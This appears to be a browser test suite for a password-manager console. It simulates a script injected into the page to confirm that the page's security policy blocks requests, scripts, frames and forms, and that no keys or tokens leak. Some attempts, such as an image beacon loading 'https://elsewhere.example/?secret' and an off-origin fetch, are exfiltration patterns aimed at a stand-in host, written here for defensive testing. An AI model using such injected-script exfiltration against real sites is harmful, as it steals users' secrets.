import { newPassword } from "@coffer/console-app/new-password";
import { personClient } from "@coffer/sdk";
import { register } from "@coffer/sdk/account";
import { testDirectory, until } from "@coffer/testkit";
import type { Page } from "playwright-core";
import t from "tap";
import { npmStart } from "../../local/test/npm-start.ts";
import { startVisitors } from "./browser.ts";

// What a script could do that was injected into the page: the code of these tests runs in the page as such a script would.

const limits = { COFFER_LIMIT_STRICT: "10000", COFFER_LIMIT_STANDARD: "10000", COFFER_LIMIT_USER: "10000" };
const file = t;
const { url } = await npmStart(file, { directory: testDirectory(file), env: limits }).ready;
const newVisitor = await startVisitors(file, url);
const email = "alice@example.com";
const password = newPassword({ kind: "words", length: 5 });
const value = newPassword({ kind: "characters", length: 20 });
const device = { id: crypto.randomUUID(), name: "test", type: "cli" };
const { session } = await register({ url, email, password, device });
const me = personClient(session, url);
const { id: vaultId } = await me.vaults.create("Private");
await me.records.create(vaultId, { type: "login", fields: { name: "Example mail", password: value } });

async function signIn(page: Page): Promise<void> {
  await page.getByRole("textbox", { name: "E-mail" }).fill(email);
  await page.getByLabel("Password").fill(password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByText("1 record", { exact: true }).waitFor();
}

const alice = await newVisitor();
const page = await alice.open();
await signIn(page);

/** The directives that the page's policy has named since the last question. */
async function violated(): Promise<string[]> {
  const all = await page.evaluate(() => seen.violations.splice(0));
  return [...new Set(all.map((each) => each.split(" ")[0] ?? ""))];
}

await t.test("the page itself breaks no rule of its policy", async (t) => {
  t.same(await violated(), []);
});

await t.test("it can request nothing, not even from its own origin", async (t) => {
  const failed = await page.evaluate(async () => {
    const origin = location.origin;
    const attempts: Record<string, () => Promise<unknown>> = {
      fetch: () => fetch(`${origin}/api/account`),
      "fetch elsewhere": () => fetch("https://elsewhere.example/", { mode: "no-cors" }),
      XMLHttpRequest: () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.onload = resolve;
          request.onerror = () => reject(new Error("refused"));
          request.open("GET", `${origin}/api/account`);
          request.send();
        }),
      EventSource: () =>
        new Promise((resolve, reject) => {
          const source = new EventSource(`${origin}/api/account`);
          source.onopen = resolve;
          source.onerror = () => reject(new Error("refused"));
        }),
      WebSocket: () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(`${origin.replace("http", "ws")}/api/sync/ws`);
          socket.onopen = resolve;
          socket.onerror = () => reject(new Error("refused"));
        }),
      image: () =>
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = () => reject(new Error("refused"));
          image.src = "https://elsewhere.example/?secret";
        }),
    };
    const results = await Promise.all(
      Object.entries(attempts).map(async ([name, attempt]) => {
        try {
          await attempt();
          return `${name} succeeded`;
        } catch {
          return undefined;
        }
      }),
    );
    return results.filter((result) => result !== undefined);
  });
  t.same(failed, []);
  t.same((await violated()).sort(), ["connect-src", "img-src"]);
});

await t.test("it has no WebRTC, which the policy does not cover", async (t) => {
  const left = await page.evaluate(() =>
    ["RTCPeerConnection", "webkitRTCPeerConnection", "RTCDataChannel", "WebTransport"].filter((name) => name in window),
  );
  t.same(left, []);
});

await t.test("it can load no script, worker, style, frame or form", async (t) => {
  const succeeded = await page.evaluate(async () => {
    const done: string[] = [];
    const refused = (name: string, attempt: () => unknown): void => {
      try {
        attempt();
        done.push(name);
      } catch {
        // As it should be.
      }
    };
    refused("innerHTML", () => (document.createElement("p").innerHTML = "<b>x</b>"));
    refused("a worker of a text", () => new Worker("/assets/other.js"));
    // TypeScript's DOM types do not have `trustedTypes`.
    refused("another policy", () =>
      (
        globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      ).trustedTypes.createPolicy("other", {}),
    );
    refused("the worker's policy a second time", () =>
      (
        globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      ).trustedTypes.createPolicy("coffer-worker", {}),
    );
    // In a task of its own: the browser lets the code of a debugger use eval.
    await new Promise<void>((resolve) =>
      setTimeout(() => {
        refused("eval", () => (0, eval)("1")); // oxlint-disable-line no-eval -- what the page must refuse
        resolve();
      }),
    );
    const style = document.createElement("style");
    style.textContent = "body { color: rgb(1, 2, 3) }";
    document.head.append(style);
    if (getComputedStyle(document.body).color === "rgb(1, 2, 3)") done.push("style");
    style.remove();
    const frame = document.createElement("iframe");
    frame.src = "https://elsewhere.example/";
    document.body.append(frame);
    const form = document.createElement("form");
    form.action = `${location.origin}/api/account`;
    document.body.append(form);
    form.requestSubmit();
    return done;
  });
  t.same(succeeded, []);
  // The browser reports a refused frame and form in tasks of their own.
  const directives: string[] = [];
  await until("the browser has refused the frame and the form", async () => {
    directives.push(...(await violated()));
    return directives.includes("frame-src") && directives.includes("form-action");
  });
  await page.evaluate(() => {
    for (const element of document.querySelectorAll("iframe, form[action$='/api/account']")) element.remove();
  });
  for (const directive of ["require-trusted-types-for", "trusted-types", "style-src-elem", "frame-src", "form-action"])
    t.ok(directives.includes(directive), directive);
});

await t.test(
  "it finds no key and no token: not on the page, not in storage, not in what the worker sent",
  async (t) => {
    const everything = (await alice.traces(page)) + (await page.evaluate(() => seen.messages)).join("\n");
    t.match(everything, "Example mail");
    for (const [name, text] of [
      ["the password", password],
      ["the value of a record", value],
      ["the user key", session.user_key],
      ["the sealed private key", session.encrypted_private_key],
    ] as const)
      t.notOk(everything.includes(text), name);
    t.notMatch(everything, /eyJ[\w-]+\.|refresh_token|access_token/);
  },
);

await t.test("without shared workers each tab signs in by itself, and signing out reaches all", async (t) => {
  const visitor = await newVisitor({ withoutSharedWorker: true });
  const first = await visitor.open();
  t.equal(await first.evaluate(() => "SharedWorker" in globalThis), false);
  await signIn(first);
  const second = await visitor.open();
  await second.getByRole("heading", { name: "Sign in" }).waitFor();
  await signIn(second);
  await second.getByRole("button", { name: "Sign out" }).click();
  await first.getByRole("heading", { name: "Sign in" }).waitFor();
  await second.getByRole("heading", { name: "Sign in" }).waitFor();
  t.same(await visitor.troubles(), []);
  await visitor.context.close();
});

await t.test("it speaks the browser's language, and English where it does not know that", async (t) => {
  for (const [locale, language, title] of [
    ["de-CH", "de", "Anmelden"],
    ["fi-FI", "en", "Sign in"],
  ] as const) {
    const visitor = await newVisitor({ locale });
    const tab = await visitor.open();
    await tab.getByRole("heading", { name: title }).waitFor();
    t.equal(await tab.evaluate(() => document.documentElement.lang), language);
    await visitor.context.close();
  }
});

await t.test("an address that is not secure is explained", async () => {
  const visitor = await newVisitor();
  await visitor.context.addInitScript(() => {
    Object.defineProperty(globalThis, "isSecureContext", { value: false });
  });
  const tab = await visitor.open();
  await tab.getByText("Open the console by its https address.").waitFor();
  await visitor.context.close();
});
